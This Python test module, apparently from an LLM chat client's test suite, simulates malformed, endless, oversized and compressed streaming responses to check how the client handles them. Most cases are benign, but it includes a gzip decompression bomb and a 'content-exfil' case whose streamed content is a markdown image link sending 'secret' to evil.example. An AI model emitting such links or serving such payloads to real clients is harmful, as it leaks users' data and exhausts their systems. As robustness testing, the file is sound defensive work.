"""Streams whose bytes are in order, and whose values are not; and those without end."""

from __future__ import annotations

import asyncio
import gzip
import zlib
from typing import Any

from nbchat.errors import BadAnswer

from .families import FAMILIES, TEXT, WORDS
from .outcomes import ALL_FRAMINGS, ANY, LINES, SSE, Expected, Faults, broken, raises
from .server import Turn

PAYLOAD = Faults()
fault = PAYLOAD.fault
# Ollama and Cohere have no word for an answer that was filtered.
FILTERED = tuple(family.name for family in FAMILIES if family.name not in ("ollama", "cohere"))
UNREADABLE = "cannot be read; the answer is incomplete"
LIMIT = "limit|larger than|without content"


async def stream(turn: Turn, *events: bytes) -> None:
    await turn.head()
    for event in events:
        await turn.send(event)
    await turn.end()


def ends(turn: Turn, reason: str = "end") -> list[bytes]:
    return [*turn.family.finish(reason), turn.family.ends()]


def inside(name: str, bad: Any, expected: Expected, **more: Any) -> None:
    """The good stream with this event in its middle."""

    async def play(turn: Turn) -> None:
        event = bad(turn) if callable(bad) else turn.family.frame(bad)
        words = list(map(turn.family.delta, WORDS))
        await stream(turn, *turn.family.starts(), *words[:5], event, *words[5:], *ends(turn))

    fault(expected, name=name, **more)(play)


def instead(name: str, deltas: Any, text: str, **more: Any) -> None:
    """A stream of these deltas, and the text that should come of it."""

    async def play(turn: Turn) -> None:
        await stream(
            turn, *turn.family.starts(), *(turn.family.delta(d) for d in deltas), *ends(turn)
        )

    fault(Expected(text), name=name, **more)(play)


WHOLE = Expected()
inside("json-malformed", b'{"choices": [{"delta": {"content": "x"', broken(UNREADABLE))
inside("json-not-json", b"<html>", broken(UNREADABLE))
inside("json-bom-event", b"\xef\xbb\xbf{}", WHOLE)
inside("json-scalar-number", 42, WHOLE)
inside("json-scalar-string", "hello", WHOLE)
inside("json-scalar-null", None, WHOLE)
inside("json-scalar-true", True, WHOLE)
inside("json-empty-list", [], WHOLE)
inside("json-empty-object", {}, WHOLE)
inside("json-unknown-object", {"type": "weather", "sun": 1}, WHOLE)
inside("content-wrong-type-number", lambda turn: turn.family.delta(42), WHOLE)
inside("content-wrong-type-object", lambda turn: turn.family.delta({"a": 1}), WHOLE)
inside("content-wrong-type-list", lambda turn: turn.family.delta([1, None]), WHOLE)
inside("content-null", lambda turn: turn.family.delta(None), WHOLE)
inside("content-empty", lambda turn: turn.family.delta(""), WHOLE)
inside("nulls-openai", {"choices": [{"delta": None, "index": None}], "usage": None}, WHOLE)
inside("nulls-anthropic", {"type": "content_block_delta", "index": None, "delta": None}, WHOLE)
inside("nulls-gemini", {"candidates": [{"content": {"parts": None}}], "usageMetadata": None}, WHOLE)
inside(
    "wrong-shapes", {"choices": 7, "candidates": "x", "type": 3, "error": None, "usage": []}, WHOLE
)
inside("json-nan", b'{"odd": NaN, "far": Infinity, "usage": null}', WHOLE)
inside("json-bigint", b'{"n": %b}' % (b"9" * 5000), broken(UNREADABLE))
inside("json-bigfloat", b'{"n": 1e99999}', WHOLE)
inside("json-dup-keys", b'{"a": 1, "a": 2, "choices": [], "choices": []}', WHOLE)
inside(
    "json-deep",
    b"[" * 100_000 + b"]" * 100_000,
    broken(UNREADABLE),
)
inside(
    "json-deep-object",
    b'{"a":' * 200_000 + b"1" + b"}" * 200_000,
    broken(UNREADABLE),
)
inside(
    "usage-absurd",
    {
        "usage": {"prompt_tokens": -1, "completion_tokens": 1e300, "total_tokens": "many"},
        "choices": [],
    },
    WHOLE,
)
inside("ping-in-words", lambda turn: turn.family.frame(b"still here", "ping"), WHOLE, framings=SSE)
inside("data-empty", b"", WHOLE)
inside(
    "two-choices",
    {
        "choices": [{"index": 1, "delta": {"content": "no"}}],
        "candidates": [{"index": 1, "content": {"parts": [{"text": "no"}]}}],
    },
    WHOLE,
)

instead("surrogate-escape-lone", ["a\ud83d", "z"], "a\ufffdz")
instead("surrogate-escape-lone-last", ["az\ud83d"], "az\ufffd")
instead("surrogate-escape-split", ["a\ud83d", "\ude42z"], "a🙂z")
instead("surrogate-escape-split-in-three", ["a", "\ud83d", "\ude42", "z"], "a🙂z")
instead("content-nul", ["a\x00b"], "a\x00b")
instead("content-ansi", ["\x1b[31mred\x1b[0m"], "\x1b[31mred\x1b[0m")
instead(
    "content-exfil",
    ["![x](https://evil.example/?q=secret)"],
    "![x](https://evil.example/?q=secret)",
)
instead("ok-separators", ["a\u2028b\u0085c\x0bd\x1ce"], "a\u2028b\u0085c\x0bd\x1ce")
instead("ok-done-in-text", ["[DONE]", "data: [DONE]\n\n"], "[DONE]data: [DONE]\n\n")
instead("ok-crlf-in-text", ["a\r\nb\rc\n\nd"], "a\r\nb\rc\n\nd")


@fault(Expected("a\ufffd\ufffdz"))
async def utf8_invalid_bytes(turn: Turn) -> None:
    bad = turn.family.replaced(turn.family.delta("aXz"), b"X", b"\xff\xfe")
    await stream(turn, *turn.family.starts(), bad, *ends(turn))


@fault(Expected("a\ufffd\ufffd\ufffdz"))
async def utf8_surrogate_bytes(turn: Turn) -> None:
    bad = turn.family.replaced(turn.family.delta("aXz"), b"X", b"\xed\xa0\x80")
    await stream(turn, *turn.family.starts(), bad, *ends(turn))


@fault(Expected("", "end", notice="empty answer"), both=True)
async def empty_answer(turn: Turn) -> None:
    if turn.unary:
        await turn.json(turn.family.whole(""))
    else:
        await stream(turn, *turn.family.starts(), *ends(turn))


@fault(Expected(stop="length"), both=True)
async def finish_length(turn: Turn) -> None:
    await ended(turn, "length")


@fault(Expected(stop="filter"), both=True, families=FILTERED)
async def finish_filter(turn: Turn) -> None:
    await ended(turn, "filter")


async def ended(turn: Turn, reason: str) -> None:
    if turn.unary:
        await turn.json(turn.family.whole(TEXT, reason))
    else:
        await stream(
            turn, *turn.family.starts(), *map(turn.family.delta, WORDS), *ends(turn, reason)
        )


@fault(Expected(ANY), both=True)
async def event_20mb(turn: Turn) -> None:
    big = "x" * (20 * 2**20)
    if turn.unary:
        await turn.json(turn.family.whole(big))
    else:
        await stream(turn, *turn.family.starts(), turn.family.delta(big), *ends(turn))


# --- without end --------------------------------------------------------------------------------


def endless(
    name: str,
    piece: Any,
    text: str,
    *,
    start: bool = True,
    framings: tuple[str, ...] = ALL_FRAMINGS,
) -> None:
    async def play(turn: Turn) -> None:
        await turn.head()
        if start:
            for event in turn.pieces(whole=False):
                await turn.send(event)
        block = piece(turn) if callable(piece) else piece
        first = turn.family.endless if name == "endless-line" else b""
        await turn.send(first + block)
        while True:
            await turn.send(block)

    expected = broken(LIMIT, text) if start else raises(BadAnswer, LIMIT)
    fault(expected, name=name, framings=framings)(play)


BLOCK = 2**18
endless("flood-fast", lambda turn: turn.family.delta("flood ") * 2000, ANY)
endless("endless-line", b"x" * BLOCK, "prefix")
endless("endless-event", b"data: x\n" * (BLOCK // 8), "prefix", framings=SSE)
endless("endless-comment", b": " + b"x" * BLOCK, "prefix", framings=SSE)
endless("endless-comments", b": hm\n" * (BLOCK // 5), "prefix", framings=SSE)
endless("endless-blank", b"\n" * BLOCK, "prefix", framings=LINES)
endless("endless-blank-only", b"\n" * BLOCK, "nothing", start=False)
endless("endless-json", b'{"a": "' + b"x" * BLOCK, "nothing", start=False)
endless("endless-array", b"[" * BLOCK, "nothing", start=False)
endless("endless-html", b"<html>" + b"x" * BLOCK, "nothing", start=False)


# --- compressed, though nobody asked ------------------------------------------------------------


def zipped(
    name: str, encoding: str, pack: Any, expected: Expected, unary: Expected | None = None
) -> None:
    async def play(turn: Turn) -> None:
        data = pack(b"".join(turn.pieces()))
        await turn.head(200, f"Content-Encoding: {encoding}")
        for at in range(0, len(data), 100):
            await turn.send(data[at : at + 100])
        await turn.end()

    fault(expected, unary, name=name)(play)


def cut_short(data: bytes) -> bytes:
    return gzip.compress(data, 1)[:-12]


def corrupt(data: bytes) -> bytes:
    packed = bytearray(gzip.compress(data, 0))  # stored: the damage is where it is put
    packed[-5] ^= 0xFF
    return bytes(packed).replace(b"fine", b"fine")


def members(data: bytes) -> bytes:
    return gzip.compress(data[:300]) + gzip.compress(data[300:])


DAMAGED = raises(BadAnswer, "damaged|unreadable")
zipped("ok-gzip", "gzip", gzip.compress, WHOLE, WHOLE)
zipped("ok-gzip-members", "gzip", members, WHOLE, WHOLE)
zipped("ok-x-gzip", "x-gzip", gzip.compress, WHOLE, WHOLE)
zipped("ok-deflate", "deflate", zlib.compress, WHOLE, WHOLE)
zipped("ok-identity", "identity", bytes, WHOLE, WHOLE)
zipped("gzip-lie", "gzip", bytes, DAMAGED, DAMAGED)
zipped("encoding-unknown", "br", bytes, DAMAGED, DAMAGED)


def half_packed(turn: Turn) -> bytes:
    pack = zlib.compressobj(wbits=31)
    return pack.compress(b"".join(turn.pieces(whole=False))) + pack.flush(zlib.Z_SYNC_FLUSH)


@fault(broken("damaged answer.*; the answer is incomplete"))
async def gzip_truncated(turn: Turn) -> None:
    await turn.head(200, "Content-Encoding: gzip")
    await turn.send(half_packed(turn))
    await turn.end()


@fault(broken("damaged answer.*; the answer is incomplete"))
async def gzip_corrupt(turn: Turn) -> None:
    await turn.head(200, "Content-Encoding: gzip")
    await turn.send(half_packed(turn) + b"\xff" * 50)
    await turn.end()


@fault(broken(LIMIT, ANY), raises(BadAnswer, LIMIT))
async def gzip_bomb(turn: Turn) -> None:
    await turn.head(200, "Content-Encoding: gzip")
    pack = zlib.compressobj(9, wbits=31)
    start = b'{"a": "' if turn.unary else b"".join([*turn.pieces(whole=False), turn.family.endless])
    await turn.send(pack.compress(start))
    for _ in range(512):
        await turn.send(pack.compress(b"x" * 2**20) + pack.flush(zlib.Z_SYNC_FLUSH))
        await asyncio.sleep(0)
    await turn.end()
